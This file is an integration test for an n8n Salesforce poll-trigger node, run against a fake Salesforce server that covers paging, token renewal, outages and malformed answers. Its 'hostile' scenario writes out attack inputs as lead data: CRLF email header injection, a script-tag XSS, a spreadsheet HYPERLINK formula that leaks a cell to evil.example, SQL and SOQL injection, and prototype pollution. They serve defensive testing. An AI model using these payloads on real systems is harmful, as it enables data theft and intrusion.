/**
 * Nudge Poll Trigger, Source Salesforce, in a real n8n server (each version in NUDGE_N8N_VERSIONS, default 2.41.1),
 * against a fake Salesforce this test runs: the package packed and installed as a community package, one workflow per
 * scenario (Nudge Poll Trigger → Log Decision), each with its own Nudge Engine credential (its own SQLite
 * store) and its own Nudge Salesforce API credential whose Login URL is one "org" of the fake (`/org/<name>`). Checked
 * from the outside: what the fake org was asked, n8n's execution list (and a failed check's error in its execution
 * data), n8n's log, and Nudge's decision log.
 *
 * When n8n polls (read in the installed n8n, not guessed):
 * - At activation n8n runs the first poll at once and uses its output: n8n-core execution-engine
 *   active-workflow-triggers.js activatePollTrigger → `executePollTrigger(true)` (2.41.1; active-workflows.js
 *   `executeTrigger(true)` in 1.123.81), which __emit()s what poll() returns (an execution) and, on an error, throws:
 *   the activation fails and n8n retries it (active-workflow-manager.js addQueuedWorkflowActivation). The poll's first
 *   check pins the cursor ("from now"), so it finds nothing here.
 * - Then a cron per Poll Times entry: "Every Minute" is `<random second> * * * * *` (n8n-workflow cron.js
 *   toCronExpression). 2.41.1 refuses anything more often (isSubMinuteCron: the seconds field must be one number);
 *   1.123.81 refuses a `*` in the seconds field only. So checks here are a minute apart, every workflow on its own
 *   second, and every scenario runs at the same time: the whole file waits about two minutes of checks per version.
 * - A manual run of the node (the editor's "Fetch Test Event", mode `manual`) does not take records in: the node shows
 *   them as a preview (NudgePollTrigger.node.ts), so it cannot stand in for a check.
 * - A check that fails: n8n records an error execution (2.41.1 trigger-execution-context.factory.js
 *   recordTriggerFailure → executionService.createErrorExecution; 1.123.81 active-workflow-manager.js __emitError).
 *
 * The fake answers as Salesforce documents (payloads as documented; the engine's calls are in engine/vendors/salesforce:
 * jsforce's OAuth2 refresh and `conn.query`, API v62.0):
 * - token endpoint, refresh token flow (POST {login}/services/oauth2/token, form-encoded grant_type=refresh_token):
 *   https://help.salesforce.com/s/articleView?id=sf.remoteaccess_oauth_refresh_token_flow.htm — access_token,
 *   instance_url (here the same org of the fake), id, token_type, issued_at, signature, scope;
 * - query (GET /services/data/vXX.X/query?q=…): https://developer.salesforce.com/docs/atlas.en-us.api_rest.meta/api_rest/resources_query.htm
 *   — totalSize, done, records with attributes {type, url}, and nextRecordsUrl when "the returned batch can include
 *   fewer records than the limit or what's set in the request, based on the size and complexity of records queried";
 *   query more (GET /services/data/vXX.X/query/<locator>): https://developer.salesforce.com/docs/atlas.en-us.api_rest.meta/api_rest/dome_query.htm;
 *   the SOQL's WHERE / ORDER BY / LIMIT evaluated on the org's records;
 * - errors as a JSON array of {message, errorCode}, 401 INVALID_SESSION_ID for an expired session, 500 for "an error
 *   has occurred within Lightning Platform": https://developer.salesforce.com/docs/atlas.en-us.api_rest.meta/api_rest/errorcodes.htm;
 * - the Sforce-Limit-Info header (api-usage=used/limit): https://developer.salesforce.com/docs/atlas.en-us.api_rest.meta/api_rest/headers_api_usage.htm;
 * - SystemModstamp as the REST API writes a dateTime (2026-11-21T09:00:00.000+0000).
 */
import { createHmac } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Decision } from '../../engine/audit/schema';
import { openStore } from '../../engine/store/open';
import type { Store } from '../../engine/store/types';
import { tempDir } from '../helpers/fixtures';
import { describeWithN8n, installedVersion } from './n8nInstall';
import { freePort, N8nServer, packAsCommunityPackage, type Execution } from './n8nServer';

const ROOT = join(__dirname, '..', '..');
// n8n's minute cron makes this file take about 3 minutes a version: CI runs it on the current n8n. On 1.123.81 it passed
// too (7 of 7, 185 s): NUDGE_N8N_VERSIONS=1.123.81 runs it there.
const VERSIONS = (process.env.NUDGE_N8N_VERSIONS ?? '2.41.1').split(',').map((v) => v.trim()).filter(Boolean);
const POLICY = readFileSync(join(ROOT, 'flows/policies/journeys.json'), 'utf8');
const API = 'v62.0';
const CLIENT_ID = '3MVG9fake.consumer.key';
const CLIENT_SECRET = 'fake-consumer-secret';
/** Longest a check may take to show up (a minute between checks, and jsforce's retries of a failing call, ~16 s). */
const CHECK_MS = 150_000;
/** A test waits for its scenario, which runs beside the others from the start (a few checks, a minute apart). */
const TEST_MS = 8 * 60_000;

/** A Lead as the org keeps it. */
interface Lead {
	Id: string;
	/** Whole seconds, epoch ms. */
	stamp: number;
	fields: Record<string, unknown>;
	/** What the answer carries instead of the org's own values (a hostile or broken endpoint). */
	answerAs?: Record<string, unknown>;
}

type Mode = 'ok' | 'down' | 'error500' | 'malformed';

/** One org of the fake Salesforce: its records, the tokens it issued, and what it was asked. */
class FakeOrg {
	readonly records = new Map<string, Lead>();
	readonly tokens = new Set<string>();
	readonly refreshToken: string;
	tokenRequests = 0;
	/** First pages of queries answered 200 (one per check that reached Salesforce and succeeded). */
	answered = 0;
	queryMoreAnswered = 0;
	/** Every /query request with the status it got. */
	readonly requests: Array<{ path: string; status: number | 'destroyed' }> = [];
	mode: Mode = 'ok';
	/** Records per batch of a query's answer (Salesforce's default 2,000; it may answer fewer, as documented). */
	batchSize = 2000;
	/** Rows put in the next answer whatever the WHERE says (a record seen again). */
	replayNext: Lead[] = [];
	private readonly cursors = new Map<string, Record<string, unknown>[]>();
	private seq = 0;

	constructor(
		readonly name: string,
		readonly base: () => string,
	) {
		this.refreshToken = `5Aep861fake.refresh.${name}`;
	}

	get loginUrl(): string {
		return `${this.base()}/org/${this.name}`;
	}

	/** Changes (or creates) a lead now: SystemModstamp is the current second, as Salesforce stamps a save. */
	change(Id: string, fields: Record<string, unknown>, answerAs?: Record<string, unknown>): Lead {
		const stamp = Math.floor(Date.now() / 1000) * 1000;
		const lead = { Id, stamp, fields: { ...this.records.get(Id)?.fields, ...fields }, answerAs };
		this.records.set(Id, lead);
		return lead;
	}

	expireSessions(): void {
		this.tokens.clear();
	}

	row(lead: Lead): Record<string, unknown> {
		return {
			attributes: { type: 'Lead', url: `/services/data/${API}/sobjects/Lead/${lead.Id}` },
			Id: lead.Id,
			SystemModstamp: new Date(lead.stamp).toISOString().replace('Z', '+0000'),
			...lead.fields,
			...lead.answerAs,
		};
	}

	handle(req: IncomingMessage, body: string, res: ServerResponse, path: string): void {
		const send = (status: number, payload: unknown, headers: Record<string, string> = {}): void =>
			void res.writeHead(status, { 'content-type': 'application/json;charset=UTF-8', ...headers }).end(typeof payload === 'string' ? payload : JSON.stringify(payload));
		if (req.method === 'POST' && path === '/services/oauth2/token') {
			this.tokenRequests++;
			const form = new URLSearchParams(body);
			if (form.get('grant_type') !== 'refresh_token' || form.get('refresh_token') !== this.refreshToken || form.get('client_id') !== CLIENT_ID || form.get('client_secret') !== CLIENT_SECRET) {
				return send(400, { error: 'invalid_grant', error_description: 'expired access/refresh token' });
			}
			const token = `00Dfake0000${this.name}!AQ${++this.seq}`;
			this.tokens.add(token);
			const issued = String(Date.now());
			return send(200, {
				access_token: token,
				signature: createHmac('sha256', CLIENT_SECRET).update(`${this.loginUrl}/id/00Dxx0000001gPFEAY/005xx000001Sv6eAAC${issued}`).digest('base64'),
				scope: 'refresh_token api',
				instance_url: this.loginUrl,
				id: `${this.loginUrl}/id/00Dxx0000001gPFEAY/005xx000001Sv6eAAC`,
				token_type: 'Bearer',
				issued_at: issued,
			});
		}
		const query = path === `/services/data/${API}/query`;
		const more = path.startsWith(`/services/data/${API}/query/`);
		if (req.method !== 'GET' || (!query && !more)) return send(404, [{ errorCode: 'NOT_FOUND', message: 'The requested resource does not exist' }]);
		if (this.mode === 'down') {
			this.requests.push({ path, status: 'destroyed' });
			req.socket.destroy();
			return;
		}
		const auth = /^Bearer (.+)$/.exec(req.headers.authorization ?? '');
		if (!auth || !this.tokens.has(auth[1])) {
			this.requests.push({ path, status: 401 });
			return send(401, [{ message: 'Session expired or invalid', errorCode: 'INVALID_SESSION_ID' }]);
		}
		const limits = { 'Sforce-Limit-Info': 'api-usage=25/15000' };
		if (this.mode === 'error500') {
			this.requests.push({ path, status: 500 });
			return send(500, [{ message: 'An unexpected error occurred. Please include this ErrorId if you contact support: 1838637612-61473 (-1258413497)', errorCode: 'UNKNOWN_EXCEPTION' }], limits);
		}
		if (this.mode === 'malformed') {
			this.requests.push({ path, status: 200 });
			// Cut off mid-record, as a connection closed by a proxy in between leaves it.
			return send(200, `{"totalSize":2,"done":true,"records":[{"attributes":{"type":"Lead","url":"/services/data/${API}/sobjects/Lead/00Q`, limits);
		}
		if (more) {
			const locator = path.slice(`/services/data/${API}/query/`.length);
			const rest = this.cursors.get(locator);
			if (!rest) {
				this.requests.push({ path, status: 400 });
				return send(400, [{ message: 'invalid query locator', errorCode: 'INVALID_QUERY_LOCATOR' }]);
			}
			this.cursors.delete(locator);
			this.requests.push({ path, status: 200 });
			this.queryMoreAnswered++;
			return send(200, this.page(rest, rest.length), limits);
		}
		const q = new URL(req.url!, 'http://x').searchParams.get('q') ?? '';
		const rows = this.select(q);
		if (!rows) {
			this.requests.push({ path, status: 400 });
			return send(400, [{ message: `unexpected query: ${q}`, errorCode: 'MALFORMED_QUERY' }]);
		}
		this.requests.push({ path, status: 200 });
		this.answered++;
		return send(200, this.page(rows, rows.length), limits);
	}

	/** One batch of `rows`; the rest behind a query locator. */
	private page(rows: Record<string, unknown>[], totalSize: number): Record<string, unknown> {
		if (rows.length <= this.batchSize) return { totalSize, done: true, records: rows };
		const locator = `01gxx000000${this.name}${++this.seq}-${this.batchSize}`;
		this.cursors.set(locator, rows.slice(this.batchSize));
		return { totalSize, done: false, nextRecordsUrl: `/services/data/${API}/query/${locator}`, records: rows.slice(0, this.batchSize) };
	}

	/** Evaluates the poll's SOQL (engine/vendors/salesforce/poll.ts pollQuery) the way Salesforce does. */
	private select(q: string): Record<string, unknown>[] | undefined {
		const shape = /^SELECT (.+) FROM Lead WHERE (.+) AND SystemModstamp < (\S+) ORDER BY SystemModstamp ASC, Id ASC LIMIT (\d+)$/.exec(q);
		if (!shape) return undefined;
		const [, fields, newer, untilText, limitText] = shape;
		const at = (text: string) => Date.parse(text);
		const tie = /^\(SystemModstamp > (\S+) OR \(SystemModstamp = \S+ AND Id > '(\w+)'\)\)$/.exec(newer);
		const from = /^SystemModstamp >= (\S+)$/.exec(newer);
		const gt = /^SystemModstamp > (\S+)$/.exec(newer);
		if (!tie && !from && !gt) return undefined;
		const isNewer = (l: Lead) => (tie ? l.stamp > at(tie[1]) || (l.stamp === at(tie[1]) && l.Id > tie[2]) : from ? l.stamp >= at(from[1]) : l.stamp > at(gt![1]));
		const selected = fields.split(', ');
		const pick = (l: Lead) => {
			const row = this.row(l);
			return Object.fromEntries(Object.entries(row).filter(([k]) => k === 'attributes' || selected.includes(k) || (l.answerAs && k in l.answerAs)));
		};
		const replay = this.replayNext.map(pick);
		this.replayNext = [];
		const rows = [...this.records.values()]
			.filter((l) => isNewer(l) && l.stamp < at(untilText))
			.sort((a, b) => a.stamp - b.stamp || (a.Id < b.Id ? -1 : 1))
			.slice(0, Number(limitText))
			.map(pick);
		return [...replay, ...rows];
	}
}

/** The fake Salesforce: one HTTP server, one org per path prefix /org/<name>. */
class FakeSalesforce {
	readonly orgs = new Map<string, FakeOrg>();
	private server?: Server;
	url = '';

	org(name: string): FakeOrg {
		const org = new FakeOrg(name, () => this.url);
		this.orgs.set(name, org);
		return org;
	}

	async start(): Promise<void> {
		this.server = createServer((req, res) => {
			const chunks: Buffer[] = [];
			req.on('data', (c: Buffer) => chunks.push(c));
			req.on('end', () => {
				const path = new URL(req.url!, 'http://x').pathname;
				const match = /^\/org\/(\w+)(\/.*)$/.exec(path);
				const org = match && this.orgs.get(match[1]);
				if (!org) return void res.writeHead(404, { 'content-type': 'application/json' }).end(JSON.stringify([{ errorCode: 'NOT_FOUND', message: path }]));
				org.handle(req, Buffer.concat(chunks).toString('utf8'), res, match[2]);
			});
		});
		await new Promise<void>((resolve) => this.server!.listen(0, '127.0.0.1', resolve));
		this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
	}

	async close(): Promise<void> {
		this.server?.closeAllConnections();
		await new Promise((resolve) => this.server?.close(resolve));
	}
}

const SCENARIOS = ['changes', 'paging', 'token', 'down', 'error500', 'malformed', 'hostile'] as const;
type Scenario = (typeof SCENARIOS)[number];
const flowId = (s: Scenario) => `NudgeSfPoll${s.slice(0, 5).padEnd(5, 'x')}`.slice(0, 16);
const leadId = (s: Scenario, n: number) => `00Q${s.slice(0, 4).replace(/\d/g, 'x').padEnd(4, 'x')}${String(n).padStart(11, '0')}`;

function workflow(s: Scenario) {
	return {
		id: flowId(s),
		name: `Salesforce leads (${s})`,
		active: false,
		settings: { executionOrder: 'v1' },
		nodes: [
			{
				id: `sf-poll-${s}-t`,
				name: 'Nudge Poll Trigger',
				type: 'n8n-nodes-nudge.nudgePollTrigger',
				typeVersion: 1,
				position: [0, 0],
				// Settle Time 0: the test's changes are committed when made; the settle window is the engine tests' subject.
				parameters: { pollTimes: { item: [{ mode: 'everyMinute' }] }, source: 'salesforce', salesforceObject: 'Lead', journey: 'nurture', settleSeconds: 0 },
				credentials: { nudgeEngineApi: { id: `NudgeSfEng${s.slice(0, 6)}`, name: `Nudge Engine ${s}` }, nudgeSalesforceApi: { id: `NudgeSfApi${s.slice(0, 6)}`, name: `Salesforce ${s}` } },
			},
			{
				id: `sf-poll-${s}-l`,
				name: 'Log Decision',
				type: 'n8n-nodes-nudge.nudgeLogDecision',
				typeVersion: 1,
				position: [220, 0],
				parameters: {},
				credentials: { nudgeEngineApi: { id: `NudgeSfEng${s.slice(0, 6)}`, name: `Nudge Engine ${s}` } },
			},
		],
		connections: { 'Nudge Poll Trigger': { main: [[{ node: 'Log Decision', type: 'main', index: 0 }]] } },
	};
}

async function waitFor<T>(what: string, probe: () => Promise<T | undefined> | T | undefined, timeoutMs = CHECK_MS): Promise<T> {
	const deadline = Date.now() + timeoutMs;
	for (;;) {
		const value = await probe();
		if (value !== undefined) return value;
		if (Date.now() > deadline) throw new Error(`Timed out waiting for ${what}`);
		await new Promise((resolve) => setTimeout(resolve, 250));
	}
}

const packWork = tempDir('nudge-n8n-sfpoll-pack-');
let packed: Promise<string> | undefined;
afterAll(() => rmSync(packWork, { recursive: true, force: true }));

for (const version of VERSIONS) {
	describeWithN8n(version, (install) => {
		let server: N8nServer;
		const fake = new FakeSalesforce();
		const orgs = {} as Record<Scenario, FakeOrg>;
		const stores = {} as Record<Scenario, Store>;
		const runs = {} as Record<Scenario, Promise<unknown>>;

		const executionsOf = async (s: Scenario): Promise<Execution[]> => (await server.executions()).filter((e) => e.workflowId === flowId(s));
		/** The workflow's executions once there are `count`, none running. */
		const settled = (s: Scenario, count: number) =>
			waitFor(`${count} execution(s) of ${s}`, async () => {
				const runs = await executionsOf(s);
				return runs.length >= count && runs.every((e) => !['new', 'running'].includes(e.status)) ? runs : undefined;
			});
		/** A check has reached the org and been answered (its first page): the fake has answered `n` queries. */
		const answered = (s: Scenario, n: number) => waitFor(`${s}: query ${n} answered`, () => (orgs[s].answered >= n ? true : undefined));
		const decisionsOf = async (s: Scenario): Promise<Decision[]> => stores[s].queryDecisions({ journey: 'nurture', limit: 10_000 });
		const errorOf = async (execution: Execution) =>
			(await server.query<{ data: string }>(`SELECT data FROM execution_data WHERE "executionId" = ${Number(execution.id)}`))[0]?.data ?? '';

		/** Leads changed after the first check, failing the next check in `mode`, then back to normal: caught up by the one after. */
		async function failThenCatchUp(s: Scenario, mode: Mode) {
			const org = orgs[s];
			await answered(s, 1);
			org.change(leadId(s, 1), { Email: `f1.${s}@example.com`, FirstName: 'Fay', LastName: 'One', Company: 'Acme', Status: 'Open - Not Contacted' });
			org.change(leadId(s, 2), { Email: `f2.${s}@example.com`, FirstName: 'Fox', LastName: 'Two', Company: 'Acme', Status: 'Open - Not Contacted' });
			org.mode = mode;
			const [failed] = await settled(s, 1);
			const decisionsWhileDown = (await decisionsOf(s)).length;
			const error = await errorOf(failed);
			org.mode = 'ok';
			const after = await settled(s, 2);
			return { failed, error, decisionsWhileDown, after, decisions: await decisionsOf(s) };
		}

		beforeAll(async () => {
			expect(installedVersion(install)).toBe(version);
			await fake.start();
			for (const s of SCENARIOS) orgs[s] = fake.org(s);
			packed ??= packAsCommunityPackage(packWork);
			server = new N8nServer(install, await freePort(), await freePort());
			server.addNodes(await packed);
			const credentials: unknown[] = [];
			for (const s of SCENARIOS) {
				const storeUrl = `sqlite:${join(server.home, `nudge-${s}.db`)}`;
				stores[s] = openStore(storeUrl);
				credentials.push(
					{ id: `NudgeSfEng${s.slice(0, 6)}`, name: `Nudge Engine ${s}`, type: 'nudgeEngineApi', data: { store: storeUrl, policy: POLICY, signingSecret: 'sf-poll-test-secret' } },
					{
						id: `NudgeSfApi${s.slice(0, 6)}`,
						name: `Salesforce ${s}`,
						type: 'nudgeSalesforceApi',
						data: { auth: 'refresh', loginUrl: orgs[s].loginUrl, clientId: CLIENT_ID, clientSecret: CLIENT_SECRET, refreshToken: orgs[s].refreshToken },
					},
				);
			}
			writeFileSync(join(server.home, 'credentials.json'), JSON.stringify(credentials));
			await server.cli(['import:credentials', `--input=${join(server.home, 'credentials.json')}`], new RegExp(`Successfully imported ${credentials.length} credentials`));
			const flows = SCENARIOS.map(workflow);
			writeFileSync(join(server.home, 'workflows.json'), JSON.stringify(flows));
			await server.cli(['import:workflow', `--input=${join(server.home, 'workflows.json')}`], new RegExp(`Successfully imported ${flows.length} workflows`));
			if (server.major >= 2) for (const f of flows) await server.cli(['publish:workflow', `--id=${f.id}`], /Publishing workflow with ID/);
			else await server.cli(['update:workflow', '--all', '--active=true'], /Activating all workflows/);
			await server.start();

			// Every scenario runs at once (n8n checks each workflow once a minute, on its own second); each test awaits its own.
			runs.changes = (async () => {
				const s = 'changes';
				const org = orgs[s];
				await answered(s, 1);
				const first = (await executionsOf(s)).length;
				org.change(leadId(s, 1), { Email: 'ada@example.com', FirstName: 'Ada', LastName: 'Lovelace', Company: 'Analytical', Status: 'Open - Not Contacted', LeadSource: 'Web', OwnerId: '005xx000001Sv6eAAC' });
				org.change(leadId(s, 2), { Email: 'bo@example.com', FirstName: 'Bo', LastName: 'Diddley', Company: 'Chess', Status: 'Open - Not Contacted', LeadSource: 'Web', OwnerId: '005xx000001Sv6eAAC' });
				org.change(leadId(s, 3), { Email: 'cy@example.com', FirstName: 'Cy', LastName: 'Young', Company: 'Naps', Status: 'Open - Not Contacted', LeadSource: 'Phone Inquiry', OwnerId: '005xx000001Sv6eAAC' });
				// Changed twice before the next check: Salesforce keeps the last state (and its SystemModstamp) only.
				org.change(leadId(s, 2), { Status: 'Working - Contacted', Phone: '+1 415 555 0100' });
				const check1 = await settled(s, first + 1);
				const after1 = await decisionsOf(s);
				// Next: lead 1 changed again, and lead 3 answered again as it was (a record seen again).
				org.replayNext = [org.records.get(leadId(s, 3))!];
				org.change(leadId(s, 1), { Status: 'Working - Contacted' });
				const check2 = await settled(s, first + 2);
				return { first, check1, after1, check2, after2: await decisionsOf(s) };
			})();
			runs.paging = (async () => {
				const s = 'paging';
				const org = orgs[s];
				// "The returned batch can include fewer records than the limit … based on the size and complexity of records".
				org.batchSize = 100;
				await answered(s, 1);
				const first = (await executionsOf(s)).length;
				// 250 leads saved in one second (ties on SystemModstamp across every batch and check boundary).
				for (let n = 1; n <= 250; n++) org.change(leadId(s, n), { Email: `p${n}@example.com`, FirstName: 'Page', LastName: `Lead ${n}`, Company: 'Bulk Import', Status: 'Open - Not Contacted' });
				const checks = await settled(s, first + 2);
				return { first, checks, decisions: await decisionsOf(s) };
			})();
			runs.token = (async () => {
				const s = 'token';
				const org = orgs[s];
				await answered(s, 1);
				const first = (await executionsOf(s)).length;
				const tokensBefore = org.tokenRequests;
				org.expireSessions();
				org.change(leadId(s, 1), { Email: 'tok1@example.com', FirstName: 'Tia', LastName: 'Token', Company: 'Acme', Status: 'Open - Not Contacted' });
				org.change(leadId(s, 2), { Email: 'tok2@example.com', FirstName: 'Tom', LastName: 'Token', Company: 'Acme', Status: 'Open - Not Contacted' });
				const checks = await settled(s, first + 1);
				return { first, tokensBefore, tokensAfter: org.tokenRequests, checks, requests: org.requests.map((r) => r.status), decisions: await decisionsOf(s) };
			})();
			runs.down = failThenCatchUp('down', 'down');
			runs.error500 = failThenCatchUp('error500', 'error500');
			runs.malformed = failThenCatchUp('malformed', 'malformed');
			runs.hostile = (async () => {
				const s = 'hostile';
				const org = orgs[s];
				await answered(s, 1);
				const first = (await executionsOf(s)).length;
				let nested: Record<string, unknown> = { leaf: 'x' };
				for (let i = 0; i < 40; i++) nested = { deeper: nested, list: [i, null, { i }] };
				const fine = { Company: 'Acme', Status: 'Open - Not Contacted' };
				org.change(leadId(s, 1), { ...fine, Email: 'ok1@example.com', FirstName: 'Olu', LastName: 'Okay' });
				// A megabyte name, a text field holding an object, an array and nested junk, an email with header injection, and
				// script and spreadsheet formulas: field values an attacker can type into a web-to-lead form (or a broken
				// endpoint answers).
				org.change(leadId(s, 2), { ...fine, Email: 'big@example.com', FirstName: 'B'.repeat(1024 * 1024), LastName: 'Big' });
				org.change(leadId(s, 3), { ...fine, Email: { $ne: null }, FirstName: ['a', { b: 1 }], LastName: nested, Company: JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}') });
				org.change(leadId(s, 4), { ...fine, Email: 'victim@example.com\r\nBcc: everyone@example.com', FirstName: '<script>alert(1)</script>', LastName: '=HYPERLINK("http://evil.example/?"&A1)', Company: 'Robert\'); DROP TABLE leads;--' });
				org.change(leadId(s, 5), { ...fine, Email: 'ok5@example.com', FirstName: 'Odd', LastName: 'Dates' }, { SystemModstamp: '2026-02-30T25:61:00.000+0000' });
				org.change(leadId(s, 6), { ...fine, Email: 'ok6@example.com', FirstName: 'Zed', LastName: 'Zero' });
				org.change(leadId(s, 7), { ...fine, Email: 'ok7@example.com', FirstName: 'Bad', LastName: 'Id' }, { Id: "00Q' OR Name != '" });
				const check1 = await settled(s, first + 1);
				const after1 = await decisionsOf(s);
				// The check after: a plain change is taken in (nothing stuck behind the hostile records).
				org.change(leadId(s, 8), { ...fine, Email: 'ok8@example.com', FirstName: 'After', LastName: 'Wards' });
				// Its decision is stored when the trigger takes it in, before the execution (Log Decision) ends: wait for both.
				await waitFor('hostile: lead 8 decided', async () => ((await decisionsOf(s)).some((d) => leadOf(d) === leadId(s, 8)) ? true : undefined));
				const check2 = await settled(s, first + 2);
				const executions = await executionsOf(s);
				return { first, check1, after1, check2, after2: await decisionsOf(s), executions: await Promise.all(executions.map(async (e) => [e.status, e.status === 'success' ? '' : (await errorOf(e)).slice(0, 1500)])) };
			})();
			for (const s of SCENARIOS) runs[s].catch(() => undefined);
		}, 20 * 60_000);

		afterAll(async () => {
			if (process.env.SFPOLL_LOG) writeFileSync(process.env.SFPOLL_LOG, server?.log ?? '');
			for (const s of SCENARIOS) await stores[s]?.close();
			await server?.close();
			await fake.close();
		}, 60_000);

		/** The lead of each decision, from its event id (salesforce:Lead:<Id>:<SystemModstamp ms>, engine/events/poll.ts eventOf). */
		const leadOf = (d: Decision) => String(d.event.eventId).split(':')[2];
		const objectIds = (ds: Decision[]) => ds.map(leadOf);

		it('the first check at activation pins the cursor and takes nothing in; each check after takes the leads changed since, each decided and logged once; a lead changed twice between checks is one event with its last values; a lead answered again is not decided again', async () => {
			const r = (await runs.changes) as { first: number; check1: Execution[]; after1: Decision[]; check2: Execution[]; after2: Decision[] };
			expect(r.first).toBe(0);
			expect(r.check1.map((e) => e.status)).toEqual(['success']);
			expect(objectIds(r.after1).sort()).toEqual([1, 2, 3].map((n) => leadId('changes', n)));
			const two = r.after1.find((d) => leadOf(d) === leadId('changes', 2))!;
			expect(await stores.changes.getProfile(two.contactId)).toMatchObject({ email: 'bo@example.com', traits: { status: 'Working - Contacted', phone: '+1 415 555 0100', lastName: 'Diddley' } });
			expect(r.check2.map((e) => e.status)).toEqual(['success', 'success']);
			const second = r.after2.filter((d) => !r.after1.some((a) => a.decisionId === d.decisionId));
			expect(objectIds(second)).toEqual([leadId('changes', 1)]);
			expect(await stores.changes.getProfile(second[0].contactId)).toMatchObject({ email: 'ada@example.com', traits: { status: 'Working - Contacted', firstName: 'Ada' } });
			expect(new Set(r.after2.map((d) => d.event.eventId)).size).toBe(4);
			expect(r.after2.every((d) => typeof d.loggedAt === 'string')).toBe(true);
		}, TEST_MS);

		it('pages: 250 leads saved in one second, answered in batches of 100 with nextRecordsUrl, are all taken in over two checks (200 a check, the query’s LIMIT), each once', async () => {
			const r = (await runs.paging) as { first: number; checks: Execution[]; decisions: Decision[] };
			expect(r.checks.map((e) => e.status)).toEqual(['success', 'success']);
			expect(orgs.paging.queryMoreAnswered).toBeGreaterThan(0);
			const ids = objectIds(r.decisions);
			expect(new Set(ids).size).toBe(ids.length);
			expect(ids.length).toBe(250);
			expect(r.decisions.every((d) => typeof d.loggedAt === 'string')).toBe(true);
		}, TEST_MS);

		it('an expired session (401 INVALID_SESSION_ID) is renewed with the refresh token and the query retried in the same check', async () => {
			const r = (await runs.token) as { tokensBefore: number; tokensAfter: number; checks: Execution[]; requests: Array<number | string>; decisions: Decision[] };
			expect(r.tokensBefore).toBe(1);
			expect(r.tokensAfter).toBe(2);
			expect(r.requests.slice(-2)).toEqual([401, 200]);
			expect(r.checks.map((e) => e.status)).toEqual(['success']);
			expect(objectIds(r.decisions).sort()).toEqual([leadId('token', 1), leadId('token', 2)]);
		}, TEST_MS);

		for (const [s, what, message] of [
			['down', 'Salesforce down (the connection dropped)', /Salesforce query failed/],
			['error500', 'a 500 with Salesforce’s error array', /Salesforce query failed \(UNKNOWN_EXCEPTION\)/],
			['malformed', 'a 200 whose JSON is cut off', /Salesforce/],
		] as const) {
			it(`${what}: the check fails with a clear error in n8n’s execution, nothing is taken in, and the next check catches up, each lead once`, async () => {
				const r = (await runs[s]) as { failed: Execution; error: string; decisionsWhileDown: number; after: Execution[]; decisions: Decision[] };
				expect(r.failed.status).toBe('error');
				expect(r.error).toMatch(message);
				expect(r.decisionsWhileDown).toBe(0);
				expect(r.after.map((e) => e.status)).toEqual(['error', 'success']);
				expect(objectIds(r.decisions).sort()).toEqual([leadId(s, 1), leadId(s, 2)]);
			}, TEST_MS);
		}

		it('hostile field values: the check succeeds, the ordinary leads beside them are decided, what cannot be taken in is said in n8n’s log, and the next check is not stuck', async () => {
			const r = (await runs.hostile) as { check1: Execution[]; after1: Decision[]; after2: Decision[]; executions: Array<[string, string]> };
			expect(r.check1.map((e) => e.status)).toEqual(['success']);
			const ids = objectIds(r.after1);
			expect(ids).toEqual(expect.arrayContaining([leadId('hostile', 1), leadId('hostile', 6)]));
			expect(objectIds(r.after2)).toContain(leadId('hostile', 8));
			expect(new Set(objectIds(r.after2)).size).toBe(r.after2.length);
			expect(r.executions.filter(([status]) => status !== 'success')).toEqual([]);
			expect(server.log).toMatch(/skipped salesforce record 00Qhost00000000002/);
			expect(r.after2.find((d) => leadOf(d) === leadId('hostile', 8))?.loggedAt).toEqual(expect.any(String));
		}, TEST_MS);
	});
}
